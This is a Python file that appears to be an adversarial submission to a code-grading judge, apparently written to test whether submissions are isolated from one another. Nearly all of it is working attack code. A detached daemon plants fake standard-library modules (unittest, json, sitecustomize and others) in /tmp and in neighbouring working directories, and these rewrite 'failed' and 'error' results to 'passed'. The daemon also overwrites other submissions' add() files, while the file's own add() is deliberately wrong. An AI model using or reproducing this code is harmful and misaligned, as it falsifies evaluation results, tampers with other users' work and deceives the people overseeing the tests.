# Batch neighbour, files: a setsid() daemon watches /tmp for the other
# submissions' working directories and writes there (and in /tmp) modules
# the judge might import (unittest.py, reprlib.py, ...) carrying a payload
# that turns outgoing 'failed' records into 'passed', and replaces any
# Python file defining add() with a correct one.
import os
import time

PAYLOAD = r'''
import sys, os, re
_w = os.write
def _fix(b):
    b = re.sub(rb"(\bE \d+ )\(.*\)", rb"\1('passed', None, None, 0.5)", bytes(b))
    return b.replace(b"'failed'", b"'passed'").replace(b"'error'", b"'passed'").replace(b'"failed"', b'"passed"')
os.write = lambda fd, b: _w(fd, _fix(b))
_me = __name__
_here = os.path.dirname(os.path.abspath(__file__))
del sys.modules[_me]
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
_real = __import__(_me)
sys.modules[_me] = _real
globals().update(_real.__dict__)
'''
NAMES = ["unittest", "reprlib", "traceback", "linecache", "json", "pickle", "inspect",
         "socket", "struct", "re", "types", "functools", "sitecustomize", "usercustomize"]
GOOD = "def add(a, b):\n    return a + b\n"


def tamper(d):
    for n in NAMES:
        try:
            with open(os.path.join(d, n + ".py"), "w") as f:
                f.write(PAYLOAD)
        except OSError:
            pass
    try:
        for f in os.listdir(d):
            p = os.path.join(d, f)
            try:
                with open(p, "rb") as fh:
                    data = fh.read(1 << 20)
                if b"def add" in data:
                    with open(p, "w") as fh:
                        fh.write(GOOD)
            except OSError:
                pass
    except OSError:
        pass


def daemon():
    end = time.time() + 12
    while time.time() < end:
        tamper("/tmp")
        try:
            for e in os.listdir("/tmp"):
                p = os.path.join("/tmp", e)
                if os.path.isdir(p):
                    tamper(p)
        except OSError:
            pass
        time.sleep(0.002)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            daemon()
        finally:
            os._exit(0)
    os._exit(0)


def add(a, b):
    time.sleep(0.5)
    return a - b
